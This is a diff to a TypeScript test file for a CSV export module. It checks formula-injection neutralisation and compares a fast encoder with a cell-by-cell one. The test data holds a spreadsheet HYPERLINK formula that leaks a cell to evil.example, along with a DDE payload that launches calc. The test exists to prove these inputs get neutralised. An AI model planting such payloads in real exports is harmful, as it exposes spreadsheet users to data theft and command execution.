@@ -2,7 +2,8 @@ import { describe, it, expect } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { memoryCtx } from '../helpers/ctx.js';
 import { DEFAULT_COLUMNS } from '../../src/core/export/columns.js';
-import { CellKind, csvLineEncoder, neutralise } from '../../src/io/write-csv.js';
+import fc from 'fast-check';
+import { CellKind, csvLineEncoder, joinedLineEncoder, neutralise, separatorsToDelimiter } from '../../src/io/write-csv.js';
 import { add, consent, exportText, lines } from './export-fixtures.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")';
@@ -13,13 +14,41 @@ describe('formula neutralisation', () => {
     for (const s of ['Dupont', ' =1', "l'=x", 'a=b']) expect(neutralise(s, CellKind.text)).toBe(s);
   });
 
-  it('keeps a valid phone in a phone column usable, and nothing else', () => {
+  it('keeps a phone in international notation usable (+ then digits), and nothing else', () => {
     expect(neutralise('+33612345678', CellKind.phone)).toBe('+33612345678');
     expect(neutralise('+32 2 123 45 67', CellKind.phone)).toBe('+32 2 123 45 67');
-    expect(neutralise('+33612345678', CellKind.text)).toBe("'+33612345678");
+    expect(neutralise('+33612345678', CellKind.text)).toBe('+33612345678');
     expect(neutralise('+cmd|" /C calc"!A0', CellKind.phone)).toBe(`'+cmd|" /C calc"!A0`);
     expect(neutralise('+1+1', CellKind.phone)).toBe("'+1+1");
+    expect(neutralise('+336123', CellKind.phone)).toBe("'+336123");
+    expect(neutralise('+33  612345678', CellKind.phone)).toBe("'+33  612345678");
     expect(neutralise('-33612345678', CellKind.phone)).toBe("'-33612345678");
+    expect(neutralise('-12.5', CellKind.number)).toBe('-12.5');
+  });
+
+  it('the fast path (a line joined by SQLite) writes exactly what the cell-by-cell path writes', () => {
+    const kinds = [CellKind.text, CellKind.number, CellKind.text, CellKind.phone];
+    const cell = fc.oneof(
+      fc.string({ unit: fc.constantFrom('a', 'é', ',', ';', '"', '\n', '\r', '\t', '=', '+', '-', '@', ' ', '1', '3', "'") }),
+      fc.constantFrom('+33612345678', '+32 2 123 45 67', '=SUM(A1)', '-12.5', ''),
+    );
+    for (const opts of [
+      { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false },
+      { delimiter: ';', eol: '\r\n', neutralise: true, decimalComma: true },
+      { delimiter: '\t', eol: '\n', neutralise: true, decimalComma: false },
+      { delimiter: ',', eol: '\n', neutralise: false, decimalComma: false },
+    ]) {
+      const slow = csvLineEncoder(kinds, opts);
+      const joined = joinedLineEncoder(kinds, opts, '\u001e');
+      const fast = (cells: string[]): string => {
+        const bytes = Buffer.from(joined(cells.join('\u001e')));
+        separatorsToDelimiter(bytes, '\u001e', opts.delimiter, cells.length);
+        return bytes.toString('utf8');
+      };
+      fc.assert(fc.property(fc.array(cell, { minLength: 4, maxLength: 4 }), (cells) => fast(cells) === slow(cells)), { numRuns: 400 });
+    }
+    expect(() => joinedLineEncoder(kinds, { delimiter: ',', eol: '\n', neutralise: true, decimalComma: false }, '\u001e')('a\u001e"b\u001ec\u001ed\u001ee')).toThrow(/U\+001E/);
+    expect(() => separatorsToDelimiter(Buffer.from('a\u001eb\u001ec\u001ed\u001ee\n'), '\u001e', ',', 4)).toThrow(/U\+001E/);
   });
 
   it('=HYPERLINK(…) in a name comes out neutralised in csv, tsv, excel and every preset; as is with --raw and in JSON', async () => {
